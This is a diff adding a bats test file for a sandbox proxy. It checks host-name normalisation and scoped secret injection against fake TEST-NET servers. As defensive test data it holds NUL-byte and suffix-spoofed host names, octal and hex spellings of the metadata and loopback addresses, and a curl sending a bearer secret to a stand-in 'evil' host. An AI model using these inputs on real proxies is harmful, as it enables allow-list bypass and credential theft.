@@ -1,0 +1,127 @@
+#!/usr/bin/env bats
+# Secrets a sandbox can use but not read (--secret NAME@HOSTS=VALUE), and
+# the one host-name normaliser the proxy judges names with, in the fake
+# world of world.bash: the web servers on TEST-NET addresses append every
+# request they get to $WEB_LOG (outside the sandbox), so a test sees what
+# left agentjail's proxy. allowed.test and sub.wild.test are 192.0.2.10,
+# other.test is 203.0.113.10. Nothing here sends a packet to a real address.
+
+load ../integration/helpers
+load world
+
+setup_file() { world_setup_file; }
+setup() { world_setup; }
+teardown() { world_teardown; }
+
+arun() {
+    run --separate-stderr hrun --dns 192.0.2.53 "$@"
+}
+
+# raw 'REQUEST' (Python escapes: \x00, \r\n) to the proxy at the sandbox's
+# gateway: prints the status line of the answer
+RAW='raw() { python3 -c "import codecs,socket,sys; s=socket.create_connection((sys.argv[1], 3128)); s.sendall(codecs.escape_decode(sys.argv[2])[0]); print(s.recv(200).split(b\"\\r\\n\")[0].decode())" "$(sed -n "s/^nameserver //p" /etc/resolv.conf)" "$1"; }'
+
+@test "proxy: host names are normalised one way; NUL, IDN, look-alikes and CONNECT/Host mismatches are refused" {
+    arun --allow allowed.test --allow 192.0.2.10/32 -- sh -c "$RAW"'
+        echo "nul-connect $(raw "CONNECT evil\x00.allowed.test:443 HTTP/1.1\r\n\r\n")"
+        echo "nul-host $(raw "GET / HTTP/1.1\r\nHost: evil\x00.allowed.test\r\n\r\n")"
+        echo "nul-url $(raw "GET http://evil\x00.allowed.test/ HTTP/1.1\r\n\r\n")"
+        echo "idn-host $(raw "GET / HTTP/1.1\r\nHost: b\xc3\xbccher.allowed.test\r\n\r\n")"
+        echo "empty-label $(raw "GET http://allowed..test/ HTTP/1.1\r\n\r\n")"
+        echo "two-dots $(raw "GET http://allowed.test../ HTTP/1.1\r\n\r\n")"
+        echo "upper-dot $(raw "GET http://ALLOWED.TEST./ HTTP/1.1\r\nHost: allowed.test\r\n\r\n")"
+        echo "host-dot $(raw "GET http://allowed.test/ HTTP/1.1\r\nHost: Allowed.Test.\r\n\r\n")"
+        echo "suffix $(raw "GET http://allowed.test.evil.test/ HTTP/1.1\r\n\r\n")"
+        echo "host-suffix $(raw "GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test.evil.test\r\n\r\n")"
+        echo "connect-host-other $(raw "CONNECT allowed.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n")"
+        echo "connect-host-port $(raw "CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:8443\r\n\r\n")"
+        echo "connect-host-same $(raw "CONNECT ALLOWED.test.:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n")"
+        echo "octal $(raw "GET http://0300.0.2.012/ HTTP/1.1\r\n\r\n")"
+        echo "hex $(raw "GET http://0xc000020a/ HTTP/1.1\r\n\r\n")"
+        echo "meta-octal $(raw "GET http://0251.0376.0251.0376/ HTTP/1.1\r\n\r\n")"
+        echo "loop-decimal $(raw "GET http://2130706433/ HTTP/1.1\r\n\r\n")"
+        echo "five-parts $(raw "GET http://192.0.2.10.1/ HTTP/1.1\r\n\r\n")"'
+    assert_status 0
+    local k
+    for k in nul-connect nul-host nul-url idn-host empty-label two-dots host-suffix \
+        connect-host-other connect-host-port five-parts; do
+        assert_output_has_line "$k HTTP/1.1 400 Bad Request"
+    done
+    for k in suffix meta-octal loop-decimal; do
+        assert_output_has_line "$k HTTP/1.1 403 Forbidden"
+    done
+    # the same host in other spellings: served (Python's server answers 1.0)
+    for k in upper-dot host-dot octal hex; do
+        assert_output_has_line "$k HTTP/1.0 200 OK"
+    done
+    assert_output_has_line "connect-host-same HTTP/1.1 200 Connection established"
+    [ "$(dns_seen 'evil')" -eq 0 ] || fail "the proxy resolved a refused name: $(cat "$DNS_LOG")"
+    # nothing but allowed.test/192.0.2.10 was reached
+    [ "$(jq -c 'select(.addr != "192.0.2.10")' "$WEB_LOG" | wc -l)" -eq 0 ] || fail "$(cat "$WEB_LOG")"
+}
+
+@test "--secret NAME@HOSTS: the proxy puts the value in toward its hosts only; it is never inside" {
+    local value='sk-live-Zq8!x&y=1'
+    arun --allow allowed.test --allow other.test --allow '*.wild.test' \
+        --secret "API_KEY@allowed.test,*.wild.test=$value" --secret PLAIN=plain-value-123 \
+        --net-log "$T/net.jsonl" -- sh -c '
+        curl -sS -m 5 -o /dev/null -H "Authorization: Bearer $API_KEY" -H "x-api-key: $API_KEY" \
+            "http://allowed.test/a?key=$API_KEY&n=1"
+        curl -sS -m 5 -o /dev/null -u "user:$API_KEY" http://sub.wild.test/b
+        curl -sS -m 5 -o /dev/null -H "Authorization: Bearer $API_KEY" -H "x-plain: $PLAIN" \
+            "http://other.test/c?key=$API_KEY"
+        curl -sS -m 5 -o /dev/null -H "Authorization: Bearer $API_KEY" http://wild.test.evil.test/d
+        env >/workspace/env.txt; cat /proc/[0-9]*/environ >/workspace/environ 2>/dev/null
+        echo "$API_KEY" >/workspace/key.txt; echo "inside: $API_KEY"'
+    assert_status 0
+    local ph
+    ph=$(cat "$WS/key.txt")
+    [[ "$ph" == agentjail-placeholder-API_KEY-* ]] || fail "not a placeholder: $ph"
+    req() { jq -c "select(.path | startswith(\"$1\"))" "$WEB_LOG"; }
+    # toward its host: the value in every header, in the query (percent-encoded)
+    [ "$(req /a | jq -r '.headers.Authorization')" = "Bearer $value" ] || fail "/a: $(req /a)"
+    [ "$(req /a | jq -r '.headers["x-api-key"]')" = "$value" ] || fail "/a x-api-key: $(req /a)"
+    [ "$(req /a | jq -r '.path')" = "/a?key=sk-live-Zq8%21x%26y%3D1&n=1" ] || fail "/a query: $(req /a)"
+    # Basic credentials: base64 of user:value, toward a *.wild.test name
+    [ "$(req /b | jq -r '.headers.Authorization')" = "Basic $(printf 'user:%s' "$value" | base64 -w0)" ] ||
+        fail "/b: $(req /b)"
+    # toward another allowed host: the placeholder, as the sandbox wrote it
+    [ "$(req /c | jq -r '.headers.Authorization')" = "Bearer $ph" ] || fail "/c: $(req /c)"
+    [ "$(req /c | jq -r '.path')" = "/c?key=$ph" ] || fail "/c query: $(req /c)"
+    [[ "$(req /c | jq -r '.headers["x-plain"]')" == agentjail-placeholder-PLAIN-* ]] || fail "/c plain: $(req /c)"
+    [ -z "$(req /d)" ] || fail "a refused host was reached: $(req /d)"
+    # the log names what was put in and what was withheld, never the value
+    q() { jq -c "select($1)" "$T/net.jsonl" | wc -l; }
+    [ "$(q '.event == "secret_injected" and .secret == "API_KEY" and .host == "allowed.test"')" -eq 3 ] ||
+        fail "injected: $(cat "$T/net.jsonl")"
+    [ "$(q '.event == "secret_injected" and .secret == "API_KEY" and .host == "sub.wild.test"')" -eq 1 ] ||
+        fail "injected (Basic): $(cat "$T/net.jsonl")"
+    [ "$(q '.event == "secret_withheld" and .secret == "API_KEY" and .host == "other.test"')" -eq 2 ] ||
+        fail "withheld: $(cat "$T/net.jsonl")"
+    [ "$(q '.event == "secret_withheld" and .secret == "PLAIN" and .host == "other.test"')" -eq 1 ] ||
+        fail "withheld (unscoped): $(cat "$T/net.jsonl")"
+    # the value is nowhere inside, nor in the log or the output
+    ! grep -rlF -e "$value" -e "plain-value-123" "$WS" "$T/net.jsonl" || fail "a value leaked into the files above"
+    [[ "$output$stderr" != *"$value"* && "$output$stderr" != *"Zq8"* ]] || fail "the value in the output"
+    assert_output_has_line "inside: $ph"
+    grep -q "^API_KEY=$ph\$" "$WS/env.txt" || fail "env: $(cat "$WS/env.txt")"
+}
+
+@test "--secret NAME@HOSTS: hosts outside --allow, without --allow, and bad hosts fail with the fix" {
+    arun --allow other.test --secret 'K@allowed.test=value-123' -- true
+    assert_status 125
+    [[ "$stderr" == *"its host allowed.test is not in the --allow list"* ]] || fail "$stderr"
+    [[ "$stderr" == *"--allow 'allowed.test'"* ]] || fail "no fix: $stderr"
+    arun --allow '*.wild.test' --allow allowed.test --secret 'K@*.sub.wild.test,allowed.test=value-123' -- true
+    assert_status 0 # *.wild.test covers *.sub.wild.test
+    run --separate-stderr hrun --net open --secret 'K@allowed.test=value-123' -- true
+    assert_status 125
+    [[ "$stderr" == *"needs --allow"* ]] || fail "$stderr"
+    local bad
+    for bad in 'K@=value-123' 'K@allowed..test=value-123' 'K@*.test=value-123' 'K@evil%00.test=value-123' \
+        $'K@b\xc3\xbccher.test=value-123' $'K@evil\x01.allowed.test=value-123' 'K@192.0.2.10.1=value-123'; do
+        arun --allow allowed.test --secret "$bad" -- true
+        [ "$status" -eq 125 ] || fail "--secret '$bad': status $status"
+        [[ "$stderr" != *value-123* ]] || fail "--secret '$bad': the value in the error: $stderr"
+    done
+}
